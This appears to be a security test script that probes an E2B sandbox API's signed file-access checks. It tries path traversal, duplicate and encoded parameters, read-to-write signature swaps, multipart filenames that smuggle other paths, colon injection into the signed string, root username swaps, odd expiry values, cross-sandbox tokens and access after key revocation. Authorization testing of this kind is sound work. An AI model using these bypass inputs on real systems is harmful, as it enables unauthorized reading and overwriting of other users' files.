"""File signatures of E2B: confusion of fields, other paths by encodings, act and user swaps, expiry forms, other sandboxes, after the end,
a form that names another path than the signed one, and whether the token's holder goes on when every key is revoked."""
import base64, hashlib
from urllib.parse import quote, urlencode
from common import *
kid, key = new_key("write")
sb = call("POST", "/sandboxes", {"templateID": "base", "secure": True, "timeout": 300}, key=key)[1]; s, agent = sb["sandboxID"], sb["envdAccessToken"]
sb2 = call("POST", "/sandboxes", {"templateID": "base", "secure": True, "timeout": 300}, key=key)[1]; s2, agent2 = sb2["sandboxID"], sb2["envdAccessToken"]
def sign(path, act, user="", token=agent, exp=None): return "v1_" + base64.b64encode(hashlib.sha256(f"{path}:{act}:{user}:{token}{'' if exp is None else ':' + str(exp)}".encode()).digest()).decode().rstrip("=")
def get(method="GET", raw=None, headers=None, **q): return call(method, "/files?" + urlencode(q), key="", raw=raw, headers=headers)[:2]
h = {"e2b-sandbox-id": s, "x-access-token": agent}
for n in ("a", "b"): call("PUT", f"/v1/sandboxes/{s}/files/content?path=/home/user/{n}", raw=f"file {n}".encode()) if 0 else call("POST", f"/files?path=/home/user/{n}", raw=b"--x\r\ncontent-disposition: form-data; name=file; filename=x\r\n\r\nfile " + n.encode() + b"\r\n--x--\r\n", key="", headers={**h, "content-type": "multipart/form-data; boundary=x"})
P = "/home/user/a"; sig = sign(P, "read")
print("control:", get(path=P, signature=sig))
show = lambda n, r: print(f"  {n:42} {r[0]} {str(r[1])[:70]}")
show("other path", get(path="/home/user/b", signature=sig)); show("path/../b", get(path="/home/user/a/../b", signature=sig))
show("two paths", call("GET", f"/files?path={quote(P)}&path=/home/user/b&signature={quote(sig)}", key="")[:2])
show("encoded path", call("GET", f"/files?path=%2Fhome%2Fuser%2Fa&signature={quote(sig)}", key="")[:2])
show("write with a read signature", get("POST", b"--x\r\ncontent-disposition: form-data; name=file; filename=x\r\n\r\nEVIL\r\n--x--\r\n", {"content-type": "multipart/form-data; boundary=x"}, path=P, signature=sig))
w = sign(P, "write")
show("read with a write signature", get(path=P, signature=w))
show("form names another path in filename", get("POST", b"--x\r\ncontent-disposition: form-data; name=file; filename=\"/home/user/b\"\r\n\r\nEVIL\r\n--x--\r\n", {"content-type": "multipart/form-data; boundary=x"}, path=P, signature=w))
show("two files in one form", get("POST", b"--x\r\ncontent-disposition: form-data; name=file; filename=\"/home/user/b\"\r\n\r\nEVIL1\r\n--x\r\ncontent-disposition: form-data; name=file; filename=\"/home/user/c\"\r\n\r\nEVIL2\r\n--x--\r\n", {"content-type": "multipart/form-data; boundary=x"}, path=P, signature=w))
show("b now", call("GET", "/files?path=/home/user/b", key="", headers=h)[:2]); show("c now", call("GET", "/files?path=/home/user/c", key="", headers=h)[:2])
we = sign("", "write")
show("signature for the empty path, form names b", get("POST", b"--x\r\ncontent-disposition: form-data; name=file; filename=\"/home/user/b\"\r\n\r\nEVIL3\r\n--x--\r\n", {"content-type": "multipart/form-data; boundary=x"}, path="", signature=we)); show("b now", call("GET", "/files?path=/home/user/b", key="", headers=h)[:2])
now = int(time.time())
for e in (now - 1, f"+{now+60}", f"0{now+60}", f"{now+60}.0", "18446744073709551615", "99999999999999999999", "", "-1"): show(f"expiration {e!r}", get(path=P, signature=sign(P, "read", exp=e), signature_expiration=e))
show("signed without expiry, sent with one", get(path=P, signature=sig, signature_expiration=now + 60)); show("signed with expiry, sent without", get(path=P, signature=sign(P, "read", exp=now + 60)))
for u in ("root", "user", "0", "ubuntu"): show(f"user {u}", get(path=P, signature=sign(P, "read", u), username=u))
show("sandbox 2 named by header", get(path=P, signature=sig, headers={"e2b-sandbox-id": s2})); show("sandbox 2's token in the header, 1's signature", get(path=P, signature=sig, headers={"e2b-sandbox-id": s2, "x-access-token": agent2})); show("wrong signature with the right token", get(path=P, signature="v1_x", headers=h)); show("empty signature with the right token", get(path=P, signature="", headers=h))
# colon games: a path that ends like another act
show("path 'a:write' signed for reading, shown as 'a' for writing with user 'read:'", get("POST", b"x", {"content-type": "multipart/form-data; boundary=x"}, path="/home/user/a", username="read:", signature=sign("/home/user/a:write", "read")))
print("revoke the key that made the sandbox:", revoke(kid))
show("agent token after that", call("GET", "/files?path=" + P, key="", headers=h)[:2])
show("and it lists processes", call("POST", "/process.Process/List", {}, key="", headers=h)[:2])
stop(s); stop(s2); time.sleep(2); show("signature after the end of the sandbox", get(path=P, signature=sig))
